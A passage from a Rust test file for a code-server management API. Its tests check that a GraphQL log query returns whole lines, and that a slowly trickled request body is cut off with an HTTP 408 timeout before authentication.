    assert!(logs.starts_with("line "), "whole lines only");
    assert!(logs.ends_with("x\n"), "whole lines only");
    // Fewer lines than the cap come back whole.
    sim.set_logs("codeserver-instances", &id, "code-server", &["one", "two"]);
    let body = h
        .query(
            Some(&alice),
            &format!("{{ codeServerLogs(id: \"{id}\", lines: 10000) }}"),
        )
        .await;
    assert_eq!(body["data"]["codeServerLogs"], "one\ntwo\n", "{body}");
}

#[tokio::test(start_paused = true)]
async fn a_body_that_trickles_in_is_cut_off_before_authentication() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let h = harness_with(http::ApiSettings {
        server: http::ServerLimits {
            header_read_timeout: Duration::from_secs(1),
            request_timeout: Duration::from_secs(30),
        },
        ..http::ApiSettings::default()
    })
    .await;
    let addr = h.base.trim_start_matches("http://").to_owned();
    let mut slow = tokio::net::TcpStream::connect(addr).await.unwrap();
    slow.write_all(
        b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
          Content-Length: 100\r\n\r\n{\"query\": ",
    )
    .await
    .unwrap();
    let mut answer = Vec::new();
    slow.read_to_end(&mut answer).await.unwrap();
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(answer.contains("\"code\":\"TIMEOUT\""), "{answer}");
}
